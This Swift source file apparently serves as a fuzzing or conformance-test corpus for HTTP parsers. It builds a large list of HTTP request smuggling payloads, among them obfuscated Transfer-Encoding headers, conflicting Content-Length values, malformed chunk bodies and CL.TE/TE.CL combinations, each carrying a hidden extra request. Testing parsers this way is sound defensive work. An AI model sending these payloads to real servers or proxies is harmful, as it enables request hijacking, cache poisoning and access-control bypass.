/// Bytes that two readers may take for different requests.
enum SmugglingPayloads {
    static let smuggled = "GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n"

    /// All cases of the framing table with a request behind them, and the tricks that are known by name.
    static let all: [[UInt8]] =
        FramingRule.allCases.map { $0.bytes + Array(smuggled.utf8) }
        + (encodings.flatMap(bothWays) + lengths.flatMap(withLength) + chunkBodies.map(chunked) + others)
        .map { Array($0.utf8) }

    /// `Transfer-Encoding` so that one of two readers may not see it.
    private static let encodings = [
        "Transfer-Encoding: chunked", "Transfer-Encoding:chunked", "Transfer-Encoding:\tchunked",
        "Transfer-Encoding : chunked", "Transfer-Encoding\t: chunked", " Transfer-Encoding: chunked",
        "Transfer-Encoding: xchunked", "Transfer-Encoding: chunkedx", "Transfer-Encoding: chunk",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: x", "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: chunked, identity", "Transfer-Encoding: identity, chunked", "Transfer-Encoding: identity",
        "Transfer-Encoding: chunked, chunked", "Transfer-Encoding: ,chunked", "Transfer-Encoding: chunked,",
        "Transfer-Encoding: \"chunked\"", "Transfer-Encoding: 'chunked'", "Transfer-Encoding: chunked;x=y",
        "Transfer-Encoding: CHUNKED", "tRANSFER-ENCODING: chunked", "Transfer_Encoding: chunked",
        "Transfer-Encoding: chunked\0", "Transfer-Encoding:\0chunked", "Transfer-Encoding\0: chunked",
        "Transfer-Encoding:\u{B}chunked", "Transfer-Encoding: \u{C}chunked", "Transfer-Encoding: \u{A0}chunked",
        "Transfer-Encoding: chunked\r", "\rTransfer-Encoding: chunked", "A: b\rTransfer-Encoding: chunked",
        "A: b\nTransfer-Encoding: chunked", "A: b\r\n\rTransfer-Encoding: chunked", "A:\r\n Transfer-Encoding: chunked",
        "Transfer-Encoding:\r\n chunked", "Transfer-Encoding\r\n: chunked", "Transfer-Encoding;: chunked",
        "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked", "Connection: Content-Length", "TE: chunked",
        "Content-Encoding: chunked", "Transfer-Encoding: chu nked", "Transfer-Encoding: chun\r\n ked",
        "Transfer-Encoding: c\u{212A}hunked", "Upgrade: h2c\r\nConnection: Upgrade", "Transfer-Encoding: ",
    ]

    /// `Content-Length` so that two readers may find different numbers.
    private static let lengths: [@Sendable (Int) -> String] = [
        { "Content-Length: \($0)" }, { "Content-Length: +\($0)" }, { "Content-Length: 0\r\nContent-Length: \($0)" },
        { "Content-Length: \($0)\r\nContent-Length: 0" }, { "Content-Length: 0, \($0)" },
        { "Content-Length: \($0), \($0)" },
        { "Content-Length : \($0)" }, { "Content-Length: \($0)\0" }, { "Content-Length:\u{B}\($0)" },
        { "Content-Length: 0\($0)" }, { "Content-Length: 0x\(String($0, radix: 16))" }, { "Content-Length: \($0).0" },
        { "Content-Length: \($0)e0" }, { "Content-Length: \($0) 0" }, { "Content_Length: \($0)" },
        { "Content-Length: \($0)\rContent-Length: 0" }, { "A: b\nContent-Length: \($0)" }, { " Content-Length: \($0)" },
        { "Content-Length:\r\n \($0)" }, { "Content-Length: 1844674407370955\(1616 + $0)" },
        { "Content-Length: -\($0)" },
    ]

    /// Chunks whose ends two readers may see in different places, each with a request behind or within.
    private static let chunkBodies = [
        "0\r\n\r\n\(smuggled)", "0\r\nA: b\r\n\r\n\(smuggled)", "0\r\n\(smuggled)", "0\n\n\(smuggled)",
        "0\r\n\n\(smuggled)",
        "0;a=\"\r\n\r\n\(smuggled)", "0;a\n\r\n\(smuggled)", "0;\n\r\n\r\n\(smuggled)", "0;a=b\rc\r\n\r\n\(smuggled)",
        "2;\nxx\r\n23\r\n\(smuggled)\r\n0\r\n\r\n", "5\r\nhello\n0\r\n\r\n\(smuggled)",
        "5\r\nhello0\r\n\r\n\(smuggled)",
        "5\r\nhelloXX0\r\n\r\n\(smuggled)", "+0\r\n\r\n\(smuggled)", "-0\r\n\r\n\(smuggled)", "0x0\r\n\r\n\(smuggled)",
        " 0\r\n\r\n\(smuggled)", "0 \r\n\r\n\(smuggled)", "0\t\r\n\r\n\(smuggled)", "0 ;a\r\n\r\n\(smuggled)",
        "0\0\r\n\r\n\(smuggled)", "\r\n\r\n\(smuggled)", "g\r\n\r\n\(smuggled)", "10000000000000000\r\n\r\n\(smuggled)",
        "ffffffffffffffff\r\n\(smuggled)", "00000000000000000000\r\n\r\n\(smuggled)", "0_0\r\n\r\n\(smuggled)",
        "0\r\nTransfer-Encoding: chunked\r\nContent-Length: 35\r\n\r\n\(smuggled)", "0\r\n A: b\r\n\r\n\(smuggled)",
        "0\r\nA\r\n\r\n\(smuggled)", "0\r\n\r\(smuggled)", "0\r\n\r\r\n\(smuggled)", "0\r\r\n\r\n\(smuggled)",
    ]

    private static let others =
        ["GET", "HEAD", "DELETE", "OPTIONS", "TRACE", "PUT", "X"]
        .flatMap { method in
            [
                "\(method) /a HTTP/1.1\r\nHost: x\r\nContent-Length: \(smuggled.utf8.count)\r\n\r\n\(smuggled)\(smuggled)",
                "\(method) /a HTTP/1.0\r\nContent-Length: \(smuggled.utf8.count)\r\nConnection: keep-alive\r\n\r\n"
                    + smuggled + smuggled,
                "\(method) http://y/a HTTP/1.1\r\nHost: x\r\n\r\n\(smuggled)",
                "\(method) /a HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n\(smuggled)",
                "\(method) /a\r\n\(smuggled)",
                "\(method) /a HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\n\r\n\(smuggled)",
            ]
        }
        + [
            "POST /a HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\nContent-Length: 35\r\n\r\n\(smuggled)\(smuggled)",
            "GET /a HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n\(smuggled)",
            "GET /a HTTP/1.1\r\nHost: x\r\nHost: y\r\n\r\n\(smuggled)",
            "GET /a HTTP/1.1\r\nHost: x/\(smuggled)", "GET /a?\r\n\r\n\(smuggled)",
            "GET /a HTTP/1.1 HTTP/1.1\r\nHost: x\r\n\r\n\(smuggled)",
            "GET /a%0d%0aContent-Length:%2035 HTTP/1.1\r\nHost: x\r\n\r\n\(smuggled)",
            "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\(smuggled)",
        ]

    /// CL.TE and TE.CL.
    private static func bothWays(_ encoding: String) -> [String] {
        let ended = "0\r\n\r\n\(smuggled)"
        let hidden = "\(String(smuggled.utf8.count, radix: 16))\r\n\(smuggled)\r\n0\r\n\r\n"
        return [
            "POST /a HTTP/1.1\r\nHost: x\r\nContent-Length: \(ended.utf8.count)\r\n\(encoding)\r\n\r\n\(ended)",
            "POST /a HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\n\(encoding)\r\n\r\n\(hidden)",
            "POST /a HTTP/1.1\r\nHost: x\r\n\(encoding)\r\nContent-Length: 4\r\n\r\n\(hidden)",
            "POST /a HTTP/1.1\r\nHost: x\r\n\(encoding)\r\n\r\n\(hidden)",
        ]
    }

    private static func withLength(_ length: (Int) -> String) -> [String] {
        ["POST /a HTTP/1.1\r\nHost: x\r\n\(length(smuggled.utf8.count))\r\n\r\n\(smuggled)\(smuggled)"]
    }

    private static func chunked(_ body: String) -> String {
        "POST /a HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n\(body)"
    }
}
